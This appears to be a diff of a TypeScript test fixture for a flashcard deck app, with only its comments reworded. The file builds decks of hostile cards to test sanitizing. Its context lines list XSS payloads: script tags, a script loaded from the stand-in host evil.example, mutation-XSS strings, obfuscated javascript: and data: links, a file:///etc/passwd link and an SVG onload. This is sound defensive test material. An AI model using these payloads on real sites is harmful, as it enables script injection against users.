@@ -1,12 +1,12 @@
 import { deckFile } from '../../support/content.js'
 
-/** Where nothing may ever be asked for; the name exists nowhere. */
+/** A host that must never be requested; it does not exist. */
 export const ELSEWHERE = 'evil.example'
 
-/** What a payload does when it runs: a mark that the page never sets. */
+/** Payload that marks its execution */
 const RUN = 'window.hit=1'
 
-/** HTML as people try it: plain, and as it has gone round sanitizers by being parsed twice. */
+/** HTML attacks, plain and as mutations that have passed sanitizers */
 const HTML = [
   `<script>${RUN}</script>`,
   `<script src="https://${ELSEWHERE}/x.js"></script>`,
@@ -36,7 +36,7 @@ const HTML = [
   `<p id="</title><img src=x onerror=${RUN}>"><plaintext>`,
 ]
 
-/** Links, images and the rest of what Markdown itself makes of text. */
+/** Attacks by Markdown: links, images and others */
 const MARKDOWN = [
   `[a](javascript:${RUN}) [b](JaVaScRiPt:${RUN}) [c](&#106;avascript:${RUN}) [d](java%0ascript:${RUN})`,
   `[e](data:text/html,<script>${RUN}</script>) [f](vbscript:${RUN}) [g](blob:https://${ELSEWHERE}/x) [h](file:///etc/passwd)`,
@@ -56,7 +56,7 @@ const MARKDOWN = [
 const WORD = 'Donaudampfschifffahrt'.repeat(480)
 const COLUMNS = Array.from({ length: 60 }, (_, at) => `Spalte ${at}`)
 
-/** What is wide, deep, or written the other way round. */
+/** Wide, deep and right-to-left texts */
 const SHAPES = [
   WORD,
   `**${WORD}** \`${WORD}\` [${WORD}](https://${ELSEWHERE}/${WORD})`,
@@ -76,7 +76,7 @@ const CATEGORY = `<svg onload=${RUN}> \u202E${'Kategorie'.repeat(20)}`
 
 const inOneLine = (text: string) => text.replaceAll('\n', ' ').replaceAll(/\\$/g, '')
 
-/** A deck and sheets full of it; each payload is a card of its own, in its question and its answer. */
+/** Returns a deck and sheets of attacks; each payload is a card of its own, in question and answer. */
 export function hostileFiles(): Record<string, string> {
   const all = [...HTML, ...MARKDOWN, ...SHAPES]
   const cards = all.map((text, at) => ({ id: `karte-${at}`, question: inOneLine(text), answer: text }))
